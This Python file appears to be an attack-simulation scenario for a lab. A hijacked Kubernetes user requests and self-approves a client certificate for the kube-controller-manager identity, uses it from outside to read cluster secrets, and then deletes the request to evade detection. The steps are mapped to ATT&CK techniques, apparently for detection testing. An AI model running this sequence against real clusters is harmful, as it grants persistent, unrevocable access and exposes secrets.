"""A client certificate for a control-plane name, approved by the one who asked, then used from outside."""

import base64
from dataclasses import replace

from lab.cast import AGENTS
from lab.client import Client, Identity
from lab.pki import Pair, signing_request
from lab.process import wait_for
from lab.story import Scenario, Stage

_PATH = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
_NAME = "system:kube-controller-manager"


def _ask(stage: Stage, client: Client, name: str, groups: tuple[str, ...]) -> tuple[int, str, bytes]:
    request, key = signing_request(name, groups)
    title = stage.word("node-csr", "user")
    spec = {
        "request": base64.b64encode(request).decode(),
        "signerName": "kubernetes.io/kube-apiserver-client",
        "usages": ["client auth"],
    }
    kind = "CertificateSigningRequest"
    body = {"apiVersion": "certificates.k8s.io/v1", "kind": kind, "metadata": {"name": title}, "spec": spec}
    return stage.create(client, body).code, title, key


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    with stage.step("ask for system:masters", thief, "persistence", ("F14", "F19", "F20")):
        _ask(stage, thief, "admin", ("system:masters",))  # refused by admission
    with stage.step("ask for a control-plane name", thief, "persistence", ("F14", "F19", "F20")):
        _, title, key = _ask(stage, thief, _NAME, ())
    with stage.step("approve it", thief, "persistence", ("F15", "F18")):
        found = stage.must(thief.get(f"{_PATH}/{title}")).json
        condition = {"type": "Approved", "status": "True", "reason": "Ops", "message": "approved"}
        found["status"] = {"conditions": [condition]}
        stage.must(thief.put(f"{_PATH}/{title}/approval", found))
        wait_for("certificate", lambda: b'"certificate":' in thief.get(f"{_PATH}/{title}").body, 30, pause=1)
        issued = thief.get(f"{_PATH}/{title}").json["status"]
    pair = Pair(stage.lab.plane.folder / f"{title}.crt", stage.lab.plane.folder / f"{title}.key")
    pair.certificate.write_bytes(base64.b64decode(issued["certificate"]))  # type: ignore[index]
    pair.key.write_bytes(key)
    outside = stage.stranger(replace(Identity(_NAME), pair=pair), AGENTS["curl"])
    with stage.step("use it outside", outside, "credential-access", ("N08", "N13", "F04", "F07")):
        stage.must(outside.get("/api/v1/secrets"))
    with stage.step("remove the request", thief, "defense-evasion", ("F17",)):
        thief.delete(f"{_PATH}/{title}")


SCENARIO = Scenario(
    "certificate-back-door",
    "A certificate for a control-plane name",
    "attack",
    "a credential that cannot be revoked",
    ("T1649", "T1098"),
    _play,
)
